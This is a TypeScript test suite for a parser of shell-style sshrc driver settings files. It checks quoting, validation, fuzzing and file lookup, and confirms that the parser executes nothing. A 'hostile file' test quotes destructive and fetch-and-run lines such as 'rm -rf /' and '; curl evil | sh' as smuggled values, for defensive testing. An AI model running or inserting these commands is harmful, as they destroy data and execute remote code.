import { readFileSync } from 'node:fs';
import { mkdir, rm, writeFile, chmod } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { randomBytes } from 'node:crypto';
import { describe, expect, it, afterAll, beforeAll } from 'vitest';
import { OnestorError } from '../../lib/shared/errors.js';
import { DEFAULT_DRIVER_SETTINGS, parseSshrc, readSshrc } from '../../lib/config/sshrc.js';
import { thrownOnestorError } from '../helpers/errors.js';

const fixtures = join(dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'sshrc');
const fixture = (name: string): string => readFileSync(join(fixtures, name), 'utf8');

const sshrcError = thrownOnestorError;

describe('parseSshrc on fixtures', () => {
  it('reads the upstream file to exactly the upstream defaults', () => {
    const r = parseSshrc(fixture('upstream-defaults.sshrc'), 'upstream-defaults.sshrc');
    expect(r.settings).toEqual({
      REPLICA_COPY_LOCK_TIMEOUT: 600,
      REPLICA_RECOVERY_SNAPS_DIR: '/var/lib/one/datastores/replica_snaps',
      REPLICA_SSH_OPTS: '-c aes128-gcm@openssh.com -m umac-64@openssh.com',
      REPLICA_SSH_FE_OPTS: '',
      REPLICA_MAX_SIZE_MB: null,
      REPLICA_MAX_USED_PERC: 90,
    });
    expect(r.unknownKeys).toEqual([]);
    expect(r.warnings).toEqual([]);
  });

  it('reads a hand-edited file: export, quotes, escapes, trailing comments, ; separators', () => {
    const r = parseSshrc(fixture('customized.sshrc'), 'customized.sshrc');
    expect(r.settings.REPLICA_COPY_LOCK_TIMEOUT).toBe(120);
    expect(r.settings.REPLICA_RECOVERY_SNAPS_DIR).toBe('/srv/one/replica snaps');
    expect(r.settings.REPLICA_SSH_OPTS).toBe('-c aes256-gcm@openssh.com -o "ProxyJump none" -i $HOME/.ssh/id');
    expect(r.settings.REPLICA_SSH_FE_OPTS).toBe('-4');
    expect(r.settings.REPLICA_MAX_SIZE_MB).toBe(204800);
    expect(r.settings.REPLICA_MAX_USED_PERC).toBe(85);
    expect(r.unknownKeys.sort()).toEqual(['EXTRA_KEY', 'LOG_LEVEL', 'REPLICA_STORAGE_NET']);
    // the escaped \$HOME is not an expansion: no warning
    expect(r.warnings).toEqual([]);
  });

  it('handles CRLF line endings', () => {
    const r = parseSshrc(fixture('crlf.sshrc'), 'crlf.sshrc');
    expect(r.settings.REPLICA_COPY_LOCK_TIMEOUT).toBe(300);
    expect(r.settings.REPLICA_MAX_USED_PERC).toBe(75);
    expect(r.settings.REPLICA_SSH_OPTS).toBe('-c aes128-ctr');
  });

  it('leaves $VAR and backticks literal and warns about each', () => {
    const r = parseSshrc(fixture('expansion.sshrc'), 'expansion.sshrc');
    expect(r.settings.REPLICA_SSH_OPTS).toBe('-i $HOME/.ssh/replica -c aes128-gcm@openssh.com');
    expect(r.settings.REPLICA_SSH_FE_OPTS).toBe('`cat /etc/one/fe_opts`');
    expect(r.unknownKeys).toEqual(['BASE']);
    expect(r.warnings).toHaveLength(2);
    expect(r.warnings[0]).toMatch(/expansion\.sshrc: line 2: REPLICA_SSH_OPTS .*NOT evaluated/);
    expect(r.warnings[1]).toMatch(/line 3: REPLICA_SSH_FE_OPTS/);
  });

  it('an unexpanded $VAR in the snapshots dir is an error that says why', () => {
    const err = sshrcError(() => parseSshrc('REPLICA_RECOVERY_SNAPS_DIR=$BASE/snaps\n', 'f'));
    expect(err.message).toContain('shell expansions are not evaluated');
  });

  it('a bad number names file, line and key', () => {
    const err = sshrcError(() => parseSshrc(fixture('bad-perc.sshrc'), '/etc/x/sshrc'));
    expect(err.code).toBe('E_SSHRC');
    expect(err.context).toMatchObject({ file: '/etc/x/sshrc', field: 'REPLICA_MAX_USED_PERC', line: 3 });
    expect(err.describe()).toContain('/etc/x/sshrc: line 3: REPLICA_MAX_USED_PERC="abc" is not an integer 1..100');
  });

  it('hostile file: nothing is executed, non-assignments are ignored with warnings', () => {
    const r = parseSshrc(fixture('hostile.sshrc'), 'hostile.sshrc');
    // `rm -rf / ; REPLICA_MAX_USED_PERC=80`: the second statement is an ordinary assignment
    expect(r.settings.REPLICA_MAX_USED_PERC).toBe(80);
    // `KEY=30 cmd` sets KEY only for cmd in sh; it must not change our setting
    expect(r.settings.REPLICA_COPY_LOCK_TIMEOUT).toBe(600);
    expect(r.settings.REPLICA_MAX_SIZE_MB).toBeNull();
    expect(r.settings.REPLICA_SSH_OPTS).toBe(DEFAULT_DRIVER_SETTINGS.REPLICA_SSH_OPTS);
    expect(r.settings.REPLICA_SSH_FE_OPTS).toBe('; curl evil | sh');
    expect(r.warnings.some((w) => w.includes('line 2') && w.includes('not a KEY=VALUE'))).toBe(true);
    expect(r.warnings.some((w) => w.includes('line 4') && w.includes('followed by more words'))).toBe(true);
  });
});

describe('parseSshrc syntax details', () => {
  const p = (text: string) => parseSshrc(text, 'inline');

  it('empty input gives upstream defaults', () => {
    expect(p('').settings).toEqual(DEFAULT_DRIVER_SETTINGS);
    expect(p('\n\n   \n# only a comment\n').settings).toEqual(DEFAULT_DRIVER_SETTINGS);
  });

  it('last assignment wins', () => {
    expect(p('REPLICA_MAX_USED_PERC=10\nREPLICA_MAX_USED_PERC=20\n').settings.REPLICA_MAX_USED_PERC).toBe(20);
  });

  it('# inside a word is not a comment, after a blank it is', () => {
    expect(p('REPLICA_SSH_OPTS=a#b # c').settings.REPLICA_SSH_OPTS).toBe('a#b');
    expect(p('REPLICA_SSH_OPTS="a # b"').settings.REPLICA_SSH_OPTS).toBe('a # b');
  });

  it('single quotes are literal, double quotes keep unknown backslashes', () => {
    expect(p("REPLICA_SSH_OPTS='a\\\"b'").settings.REPLICA_SSH_OPTS).toBe('a\\"b');
    expect(p('REPLICA_SSH_OPTS="a\\nb\\\\c"').settings.REPLICA_SSH_OPTS).toBe('a\\nb\\c');
    expect(p('REPLICA_SSH_OPTS=a\\ b').settings.REPLICA_SSH_OPTS).toBe('a b');
  });

  it('concatenated quoted pieces and backslash-newline continuation', () => {
    expect(p(`REPLICA_SSH_OPTS="-c "'x'y`).settings.REPLICA_SSH_OPTS).toBe('-c xy');
    expect(p('REPLICA_SSH_OPTS=ab\\\ncd\nREPLICA_MAX_USED_PERC=5').settings).toMatchObject({
      REPLICA_SSH_OPTS: 'abcd',
      REPLICA_MAX_USED_PERC: 5,
    });
  });

  it('a quoted value spanning lines keeps line numbers right for later errors', () => {
    const err = sshrcError(() => p('REPLICA_SSH_OPTS="a\nb\nc"\nREPLICA_COPY_LOCK_TIMEOUT=-1\n'));
    expect(err.context).toMatchObject({ line: 4, field: 'REPLICA_COPY_LOCK_TIMEOUT' });
  });

  it('unterminated quotes are syntax errors with the line where they start', () => {
    expect(sshrcError(() => p('A=1\nREPLICA_SSH_OPTS="abc\n')).context).toMatchObject({ line: 2, file: 'inline' });
    expect(sshrcError(() => p("\n\nB='x")).context).toMatchObject({ line: 3 });
  });

  it.each([
    ['REPLICA_MAX_USED_PERC=150', 'REPLICA_MAX_USED_PERC'],
    ['REPLICA_MAX_USED_PERC=0', 'REPLICA_MAX_USED_PERC'],
    ['REPLICA_MAX_USED_PERC=9.5', 'REPLICA_MAX_USED_PERC'],
    ['REPLICA_MAX_USED_PERC=', 'REPLICA_MAX_USED_PERC'],
    ['REPLICA_COPY_LOCK_TIMEOUT=1e3', 'REPLICA_COPY_LOCK_TIMEOUT'],
    ['REPLICA_COPY_LOCK_TIMEOUT=0x10', 'REPLICA_COPY_LOCK_TIMEOUT'],
    ['REPLICA_COPY_LOCK_TIMEOUT=99999999999999999999', 'REPLICA_COPY_LOCK_TIMEOUT'],
    ['REPLICA_MAX_SIZE_MB=-5', 'REPLICA_MAX_SIZE_MB'],
    ['REPLICA_MAX_SIZE_MB=ten', 'REPLICA_MAX_SIZE_MB'],
    ['REPLICA_RECOVERY_SNAPS_DIR=relative/dir', 'REPLICA_RECOVERY_SNAPS_DIR'],
    ['REPLICA_RECOVERY_SNAPS_DIR=', 'REPLICA_RECOVERY_SNAPS_DIR'],
  ])('rejects %s', (line, field) => {
    const err = sshrcError(() => p(`# header\n${line}\n`));
    expect(err.code).toBe('E_SSHRC');
    expect(err.context).toMatchObject({ file: 'inline', field, line: 2 });
  });

  it('accepts numbers with surrounding blanks inside quotes and REPLICA_COPY_LOCK_TIMEOUT=0', () => {
    const r = p('REPLICA_MAX_USED_PERC=" 70 "\nREPLICA_COPY_LOCK_TIMEOUT=0');
    expect(r.settings.REPLICA_MAX_USED_PERC).toBe(70);
    expect(r.settings.REPLICA_COPY_LOCK_TIMEOUT).toBe(0);
  });

  it('`export NAME` alone and `exportX=` are handled like the shell does', () => {
    const r = p('export REPLICA_SSH_OPTS\nexportX=1\n');
    expect(r.warnings).toEqual([]);
    expect(r.unknownKeys).toEqual(['exportX']);
  });

  it('rejects NUL bytes and oversized input', () => {
    expect(sshrcError(() => p('A=1\0')).code).toBe('E_SSHRC');
    expect(sshrcError(() => p('#'.repeat(2 * 1024 * 1024))).code).toBe('E_SSHRC');
  });
});

describe('parseSshrc property: random printable input', () => {
  // Deterministic xorshift so a failure is reproducible from the printed seed.
  function rng(seed: number): () => number {
    let s = seed >>> 0 || 1;
    return () => {
      s ^= s << 13;
      s >>>= 0;
      s ^= s >>> 17;
      s ^= s << 5;
      s >>>= 0;
      return s / 0x100000000;
    };
  }
  const alphabet = [
    ...'abcXYZ_019 =\t\n\r#;"\'\\$`-./',
    'REPLICA_MAX_USED_PERC',
    'REPLICA_COPY_LOCK_TIMEOUT',
    'REPLICA_RECOVERY_SNAPS_DIR',
    'export ',
    '\u00e9',
    '\u{1F600}',
  ];

  it('never throws anything but OnestorError and never hangs', () => {
    const started = Date.now();
    let errors = 0;
    let parsed = 0;
    for (let seed = 1; seed <= 3000; seed++) {
      const rand = rng(seed);
      const len = Math.floor(rand() * 200);
      let text = '';
      for (let k = 0; k < len; k++) text += alphabet[Math.floor(rand() * alphabet.length)];
      try {
        const r = parseSshrc(text, 'random');
        parsed++;
        // whatever was parsed is within the validated ranges
        expect(r.settings.REPLICA_MAX_USED_PERC).toBeGreaterThanOrEqual(1);
        expect(r.settings.REPLICA_MAX_USED_PERC).toBeLessThanOrEqual(100);
        expect(r.settings.REPLICA_RECOVERY_SNAPS_DIR.startsWith('/')).toBe(true);
      } catch (e) {
        if (!(e instanceof OnestorError)) throw new Error(`seed ${seed}: non-OnestorError ${String(e)} for ${JSON.stringify(text)}`);
        expect(e.code).toBe('E_SSHRC');
        errors++;
      }
    }
    // both outcomes must occur, else the generator is not exercising the parser
    expect(errors).toBeGreaterThan(50);
    expect(parsed).toBeGreaterThan(50);
    expect(Date.now() - started).toBeLessThan(10_000);
  });
});

describe('readSshrc (real files)', () => {
  let dir: string;
  beforeAll(async () => {
    dir = join(tmpdir(), `onestor-sshrc-${process.pid}-${randomBytes(4).toString('hex')}`);
    await mkdir(dir, { recursive: true });
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('uses the first existing path', async () => {
    const second = join(dir, 'second');
    await writeFile(second, 'REPLICA_MAX_USED_PERC=42\n');
    const r = await readSshrc([join(dir, 'missing'), join(dir, 'no', 'such', 'dir'), second]);
    expect(r.file).toBe(second);
    expect(r.settings.REPLICA_MAX_USED_PERC).toBe(42);
  });

  it('falls back to defaults with a warning when none exists', async () => {
    const r = await readSshrc([join(dir, 'a'), join(dir, 'b')]);
    expect(r.file).toBeNull();
    expect(r.settings).toEqual(DEFAULT_DRIVER_SETTINGS);
    expect(r.warnings[0]).toContain('no driver settings file found');
  });

  it('an existing but unreadable path is an error, not a silent fallback', async () => {
    const isDir = join(dir, 'adir');
    await mkdir(isDir);
    await expect(readSshrc([isDir])).rejects.toMatchObject({ code: 'E_SSHRC', context: { file: isDir } });
  });

  it('parse errors carry the real path', async () => {
    const f = join(dir, 'bad');
    await writeFile(f, 'REPLICA_MAX_USED_PERC=abc\n');
    await chmod(f, 0o644);
    await expect(readSshrc([f])).rejects.toMatchObject({ code: 'E_SSHRC', context: { file: f, line: 1 } });
  });
});
